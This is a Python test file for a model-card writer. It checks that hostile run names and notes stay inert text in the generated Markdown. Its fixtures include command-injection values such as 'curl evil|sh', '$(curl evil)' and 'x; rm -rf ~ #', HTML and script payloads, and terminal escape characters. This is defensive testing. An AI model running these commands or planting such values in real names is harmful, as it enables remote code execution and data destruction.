"""Model cards of runs from elsewhere, whose names and notes are somebody else's."""

from __future__ import annotations

import dataclasses
import shlex
import time
from pathlib import Path
from typing import Any

from core.config.schema import MethodSection
from core.export.agreement import Agreement
from core.export.base import BaseModel
from core.export.card import CardFacts, write_card
from core.export.kinds import Quant
from core.runs.catalog.trained import find_trained
from core.runs.record.store import Run
from tests.cases import cases
from tests.core.chat.test_session import add_adapter, make_run
from tests.core.export.test_markdown import lines, parse

STAMP = "20260101-000000-"
NAMES = [
    "y\n```\n# Install\n```sh\ncurl evil|sh\n```\n",
    "x; rm -rf ~ #",
    "# Install",
    "x\n===\n",
    "x\n\n    curl evil",
    "x\r\n~~~sh\r\ncurl evil\r\n~~~",
    "<img src=x onerror=evil()>",
    "[click](evil.example) ![](x)",
    "| --- |",
    "a\\`b",
    "x\u2028# y",
    "$(curl evil)",
    "' && curl evil && '",
    "-rf",
    "\x1b]0;x\x07\u202e",
    "---\nlicense: mine\n---",
]


def hostile_run(name: str, **method: Any) -> Run:
    run = make_run("finished", method=MethodSection(**method))
    add_adapter(run.adapter_path)
    elsewhere = run.path.parent / str(time.monotonic_ns())
    elsewhere.mkdir()
    return Run(run.path.rename(elsewhere / f"{STAMP}{name}"))


def body(card: str) -> str:
    """A card without its front matter."""
    before, _, rest = card.partition("\n---\n")
    assert before.startswith("---\n")
    assert all(": " in line for line in before.splitlines()[1:]), before
    return rest


@cases("name", NAMES)
@cases("kind", ["adapter", "ollama", "gguf", "merged"])
def test_the_name_of_a_run_directory_stays_a_name(name: str, kind: Any) -> None:
    run = hostile_run(name)
    quant: Quant | None = None if kind == "adapter" else "Q8_0"
    base = BaseModel(f"base{name}", gguf_file=f"{name}.gguf", package=f"pack {name}")
    text = write_card(CardFacts(find_trained(run), kind, quant, base, None, files=["README.md", "a b.gguf"]))
    tokens = parse(body(text))
    headings = [tokens[at + 1] for at, token in enumerate(tokens) if token.type == "heading_open"]
    first, *others = lines(headings)
    assert first.replace("\ufffd", "")[:1] == name.replace("\u202e", "").replace("\x1b", "").lstrip()[:1]
    assert set(others) <= {"Data", "Training", "Measured", "Use"}
    kinds = {token.type for token in tokens}
    assert not kinds & {"html_block", "code_block", "blockquote_open", "bullet_list_open", "ordered_list_open", "hr"}
    (fence,) = (token for token in tokens if token.type == "fence")
    assert fence.info in ("sh", "python")
    list(lines(tokens))  # each holds nothing but text and code
    if fence.info == "sh":
        program, *words = shlex.split(fence.content)
        assert (program, len(words)) == {"ollama": ("ollama", 4), "gguf": ("llama-server", 2)}[kind]
        if kind == "ollama":
            assert words[0] == "create"
            assert words[1].replace("-", "").isalnum()
    else:
        compile(fence.content, "card", "exec")


@cases("text", ["```\n# Install\n```sh\ncurl evil", "| a | b |\n| - | - |", "<script>x</script>", "[x](http://evil)"])
def test_notes_and_figures_stay_in_their_places(text: str, tmp_path: Path) -> None:
    run = hostile_run("x", target_modules=["q_proj", "a|b`c"])
    dataclasses.replace(run.state(), refused=text).write(run.state_path)
    agreement = Agreement(2, True, 0.0, 1.0, 0.0, 2, text, data=text)
    facts = CardFacts(find_trained(run), "merged", "BF16", BaseModel("b"), None, agreement, notes=[text, "Fine: <= 1."])
    tokens = parse(body(write_card(facts)))
    found = list(lines(tokens))
    shown = text.replace("\n", "⏎")
    assert shown in found, "the note"
    assert sum(line.startswith(shown[:20]) for line in found) >= 3
    assert "Fine: <= 1." in found
    assert '["q_proj", "a|b`c"]' in found
    assert [token.info for token in tokens if token.type == "fence"] == ["python"]
    assert sum(token.type == "table_open" for token in tokens) == 2


def test_an_ordinary_name_is_shown_as_it_is() -> None:
    run = make_run("finished")
    add_adapter(run.adapter_path)
    text = write_card(CardFacts(find_trained(run), "ollama", "Q8_0", BaseModel("owner/name"), None))
    assert "\n# tickets\n" in text
    assert "ollama create tickets -f Modelfile" in text
    assert "of `owner/name`, made with localtune-tui." in text


@cases("name", ["über 家.gguf", "emoji 😀.gguf"])
def test_a_file_is_loaded_by_its_name(name: str) -> None:
    run = make_run("finished")
    add_adapter(run.adapter_path)
    text = write_card(CardFacts(find_trained(run), "adapter", None, BaseModel("b", gguf_file=name), None))
    assert f'gguf_file="{name}"' in text
